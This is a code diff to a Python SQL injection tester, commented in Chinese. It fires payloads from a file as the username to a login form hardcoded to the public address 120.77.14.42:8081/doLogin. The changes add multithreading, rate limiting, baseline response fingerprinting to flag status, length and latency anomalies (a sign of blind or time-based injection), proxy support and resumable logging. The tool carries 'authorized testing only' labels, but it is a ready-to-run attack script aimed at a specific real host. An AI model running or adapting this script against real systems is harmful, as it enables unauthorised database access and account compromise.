@@ -1,7 +1,18 @@
-import requests
-import time
+import argparse
+import csv
+import hashlib
+import json
+import os
 import random
-import pandas as pd
+import statistics
+import string
+import threading
+import time
+import unicodedata
+from concurrent.futures import ThreadPoolExecutor, as_completed
+
+import requests
+from requests.adapters import HTTPAdapter
 
 # ================== 配置区 ==================
 
@@ -9,34 +20,114 @@ import pandas as pd
 URL = "http://120.77.14.42:8081/doLogin"
 PAYLOAD_FILE = "sql_injection_payload.txt"
 FIXED_PASSWORD = "test"
-OUTPUT_EXCEL = "sql_injection_results.xlsx"
+OUTPUT_CSV = "sql_injection_results.csv"
+OUTPUT_JSONL = "sql_injection_results.jsonl"
 REQUEST_TIMEOUT = 5
-DELAY_MIN = 0.3
-DELAY_MAX = 1.2
+# 并发上限和每秒请求数上限：按目标所有者批准的测试强度设置
+CONCURRENCY = 4
+RPS = 2.0
 PROXIES = None
+# 基线：正式测试前用几个普通用户名请求几次，记下正常响应的样子
+BASELINE_REQUESTS = 5
+LATENCY_Z = 3.0
+
+FIELDS = ["index", "key", "payload", "status_code", "location", "response_length", "elapsed_seconds", "error",
+          "latency_z", "anomaly", "time"]
+# 看不见但会让同一个 payload 变成"不同"行的字符
+INVISIBLE = dict.fromkeys(map(ord, "\ufeff\u200b\u200c\u200d\u2060"))
 # ================== 功能函数 ==================
 
+def normalize_payload(payload: str) -> str:
+    # NFC + 去掉 BOM / 零宽字符；其余空白保留（"-- " 后面的空格对 MySQL 有意义）
+    return unicodedata.normalize("NFC", payload).translate(INVISIBLE)
+
+
+def payload_key(payload: str) -> str:
+    return hashlib.sha256(payload.encode("utf-8")).hexdigest()
+
+
 def load_payloads(file_path: str):
     payloads = []
+    seen = set()
+    duplicates = 0
     with open(file_path, "r", encoding="utf-8") as f:
         for line in f:
-            payload = line.rstrip("\n").rstrip("\r")
-            if payload != "":
-                payloads.append(payload)
+            payload = normalize_payload(line.rstrip("\n").rstrip("\r"))
+            if payload == "":
+                continue
+            if payload in seen:
+                duplicates += 1
+                continue
+            seen.add(payload)
+            payloads.append(payload)
+    if duplicates:
+        print(f"[+] {duplicates} duplicate payloads dropped")
     return payloads
-def test_login(username_payload: str) -> dict:
+
+
+def load_journal(path: str) -> set:
+    """已经完成的 payload（key）：journal 里没有 error 的记录；请求失败的下次 --resume 会重跑"""
+    finished = set()
+    if not path or not os.path.exists(path):
+        return finished
+    with open(path, "r", encoding="utf-8") as f:
+        for line in f:
+            try:
+                record = json.loads(line)
+            except ValueError:
+                continue  # 中断时写了一半的最后一行
+            if record.get("key") and not record.get("error"):
+                finished.add(record["key"])
+    return finished
+
+
+class RateLimiter:
+    """令牌桶：所有工作线程共用，平均每秒最多 rps 个请求，突发最多 burst 个"""
+
+    def __init__(self, rps: float, burst: int = 1):
+        self.rate = rps
+        self.capacity = max(1, burst)
+        self.tokens = float(self.capacity)
+        self.updated = time.monotonic()
+        self.lock = threading.Lock()
+
+    def acquire(self):
+        if self.rate <= 0:
+            return
+        while True:
+            with self.lock:
+                now = time.monotonic()
+                self.tokens = min(self.capacity, self.tokens + (now - self.updated) * self.rate)
+                self.updated = now
+                if self.tokens >= 1:
+                    self.tokens -= 1
+                    return
+                wait = (1 - self.tokens) / self.rate
+            time.sleep(wait)
+
+
+def make_session(pool_size: int) -> requests.Session:
+    # 一个带连接池的 keep-alive 会话，所有线程共用
     session = requests.Session()
+    adapter = HTTPAdapter(pool_connections=1, pool_maxsize=pool_size)
+    session.mount("http://", adapter)
+    session.mount("https://", adapter)
+    return session
+
+
+def test_login(session: requests.Session, username_payload: str, url: str = URL, password: str = FIXED_PASSWORD,
+               timeout: float = REQUEST_TIMEOUT, proxies=PROXIES) -> dict:
     data = {
         "username": username_payload,
-        "password": FIXED_PASSWORD,
+        "password": password,
     }
     try:
         resp = session.post(
-            URL,
+            url,
             data=data,
-            allow_redirects=False,  
-            timeout=REQUEST_TIMEOUT,
-            proxies=PROXIES,
+            allow_redirects=False,
+            timeout=timeout,
+            proxies=proxies,
         )
     except requests.exceptions.RequestException as e:
         info = {
@@ -68,20 +159,175 @@ def test_login(username_payload: str) -> dict:
     print(f"    响应长度:      {info['response_length']}")
     print(f"    响应时间:      {info['elapsed_seconds']:.3f} s")
     return info
+
+
+class Baseline:
+    """正常响应的指纹：状态码、Location、响应长度档位（2 的幂）、响应时间的均值 / 标准差"""
+
+    def __init__(self, samples):
+        ok = [s for s in samples if not s["error"]]
+        self.statuses = {s["status_code"] for s in ok}
+        self.locations = {s["location"] for s in ok}
+        self.buckets = {self.bucket(s["response_length"]) for s in ok}
+        latencies = [s["elapsed_seconds"] for s in ok]
+        self.mean = statistics.mean(latencies) if latencies else 0.0
+        # 标准差下限 10 ms，基线太稳时不至于把一点抖动当成异常
+        self.stdev = max(statistics.pstdev(latencies) if len(latencies) > 1 else 0.0, 0.01)
+
+    @staticmethod
+    def bucket(length: int) -> int:
+        return int(length).bit_length()
+
+    def flags(self, info: dict):
+        """(latency z-score, 异常标记列表)"""
+        if info["error"]:
+            return None, ["error"]
+        flags = []
+        if info["status_code"] not in self.statuses:
+            flags.append("status")
+        if info["location"] not in self.locations:
+            flags.append("location")
+        if self.bucket(info["response_length"]) not in self.buckets:
+            flags.append("length")
+        z = round((info["elapsed_seconds"] - self.mean) / self.stdev, 2)
+        if z >= LATENCY_Z:
+            flags.append("latency")
+        return z, flags
+
+    def as_dict(self):
+        return {"statuses": sorted(self.statuses, key=str), "locations": sorted(self.locations),
+                "length_buckets": sorted(self.buckets), "latency_mean": round(self.mean, 4),
+                "latency_stdev": round(self.stdev, 4)}
+
+
+def measure_baseline(session, args, proxies, limiter) -> Baseline:
+    samples = []
+    for _ in range(args.baseline):
+        limiter.acquire()
+        name = "user" + "".join(random.choice(string.ascii_lowercase + string.digits) for _ in range(8))
+        samples.append(test_login(session, name, args.url, args.password, args.timeout, proxies))
+    baseline = Baseline(samples)
+    print(f"[+] Baseline: {baseline.as_dict()}")
+    return baseline
+
+
+class ResultWriter:
+    """
+    结果边完成边写：CSV 一行一个 payload，JSONL 一行一个 JSON；每行都 flush，中途中断也不丢已完成的结果。
+    JSONL 同时是只追加的 journal（每条记录带 payload 的 sha256 key），--resume 时接着往后写
+    """
+
+    def __init__(self, csv_path: str, jsonl_path: str, append: bool = False):
+        mode = "a" if append else "w"
+        new_csv = not (append and csv_path and os.path.exists(csv_path))
+        self.csv_file = open(csv_path, mode, newline="", encoding="utf-8") if csv_path else None
+        self.jsonl_file = open(jsonl_path, mode, encoding="utf-8") if jsonl_path else None
+        self.writer = None
+        if self.csv_file:
+            self.writer = csv.DictWriter(self.csv_file, fieldnames=FIELDS, extrasaction="ignore")
+            if new_csv:
+                self.writer.writeheader()
+
+    def write(self, info: dict):
+        if self.writer:
+            self.writer.writerow(info)
+            self.csv_file.flush()
+        if self.jsonl_file:
+            self.jsonl_file.write(json.dumps(info, ensure_ascii=False) + "\n")
+            self.jsonl_file.flush()
+
+    def note(self, record: dict):
+        # journal 里的非结果记录（基线等），没有 key，--resume 不会把它当成完成的 payload
+        if self.jsonl_file:
+            self.jsonl_file.write(json.dumps(record, ensure_ascii=False) + "\n")
+            self.jsonl_file.flush()
+
+    def close(self):
+        for f in (self.csv_file, self.jsonl_file):
+            if f:
+                f.close()
+
+
+def run(payloads, args) -> int:
+    session = make_session(args.concurrency)
+    limiter = RateLimiter(args.rps, burst=args.concurrency)
+    proxies = {"http": args.proxy, "https": args.proxy} if args.proxy else PROXIES
+
+    finished = load_journal(args.jsonl) if args.resume else set()
+    todo = [(i, p) for i, p in enumerate(payloads, start=1) if payload_key(p) not in finished]
+    if finished:
+        print(f"[+] Resuming: {len(payloads) - len(todo)} payloads already finished, {len(todo)} left")
+
+    writer = ResultWriter(args.csv, args.jsonl, append=args.resume)
+    baseline = None
+    if args.baseline > 0 and todo:
+        baseline = measure_baseline(session, args, proxies, limiter)
+        writer.note({"baseline": baseline.as_dict(), "time": time.strftime("%Y-%m-%d %H:%M:%S")})
+
+    def job(index, payload):
+        limiter.acquire()
+        info = test_login(session, payload, args.url, args.password, args.timeout, proxies)
+        info["index"] = index
+        info["key"] = payload_key(payload)
+        return info
+
+    done = 0
+    anomalies = 0
+    try:
+        with ThreadPoolExecutor(max_workers=args.concurrency) as pool:
+            futures = [pool.submit(job, i, p) for i, p in todo]
+            try:
+                for future in as_completed(futures):
+                    info = future.result()
+                    if baseline is not None:
+                        info["latency_z"], flags = baseline.flags(info)
+                        info["anomaly"] = "|".join(flags)
+                        if flags:
+                            anomalies += 1
+                            print(f"[!!] Anomaly ({info['anomaly']}): {repr(info['payload'])}")
+                    writer.write(info)
+                    done += 1
+                    print(f"\n[*] ({done}/{len(todo)}) done, {anomalies} anomalies")
+            except KeyboardInterrupt:
+                for future in futures:
+                    future.cancel()
+                print("\n[!] Interrupted, waiting for the requests in flight")
+                raise
+    finally:
+        writer.close()
+        session.close()
+    return done
+
+
+def parse_args(argv=None):
+    ap = argparse.ArgumentParser(description="Login form payload tester (authorized testing only)")
+    ap.add_argument("--url", default=URL, help="login endpoint")
+    ap.add_argument("--payloads", default=PAYLOAD_FILE, help="payload file, one per line")
+    ap.add_argument("--password", default=FIXED_PASSWORD, help="password sent with every payload")
+    ap.add_argument("--concurrency", type=int, default=CONCURRENCY, help="requests in flight at most")
+    ap.add_argument("--rps", type=float, default=RPS, help="requests per second at most (0: no cap)")
+    ap.add_argument("--timeout", type=float, default=REQUEST_TIMEOUT, help="seconds per request")
+    ap.add_argument("--proxy", help="HTTP(S) proxy, e.g. http://127.0.0.1:8080")
+    ap.add_argument("--csv", default=OUTPUT_CSV, help="CSV results file ('' to skip)")
+    ap.add_argument("--jsonl", default=OUTPUT_JSONL, help="JSONL results journal ('' to skip)")
+    ap.add_argument("--resume", action="store_true", help="skip payloads the journal already has results for")
+    ap.add_argument("--baseline", type=int, default=BASELINE_REQUESTS,
+                    help="benign requests for the baseline fingerprint (0: no anomaly flags)")
+    args = ap.parse_args(argv)
+    args.concurrency = max(1, args.concurrency)
+    if args.resume and not args.jsonl:
+        ap.error("--resume needs the --jsonl journal")
+    return args
 # ================== 主流程 ==================
-def main():
-    payloads = load_payloads(PAYLOAD_FILE)
+def main(argv=None):
+    args = parse_args(argv)
+    payloads = load_payloads(args.payloads)
     print(f"[+] A total of {len(payloads)} payloads were loaded\n")
-    results = []
-    for i, p in enumerate(payloads, start=1):
-        print(f"\n[*] ({i}/{len(payloads)}) testing...")
-        info = test_login(p)
-        results.append(info)
-        delay = random.uniform(DELAY_MIN, DELAY_MAX)
-        time.sleep(delay)
-    df = pd.DataFrame(results)
-    df.to_excel(OUTPUT_EXCEL, index=False)
-    print(f"\n[+] All results have been saved to: {OUTPUT_EXCEL}")
+    print(f"[+] Target: {args.url}  concurrency: {args.concurrency}  rps: {args.rps or 'unlimited'}")
+    started = time.time()
+    done = run(payloads, args)
+    print(f"\n[+] {done} results in {time.time() - started:.1f} s saved to: "
+          f"{', '.join(p for p in (args.csv, args.jsonl) if p)}")
 
 if __name__ == "__main__":
     main()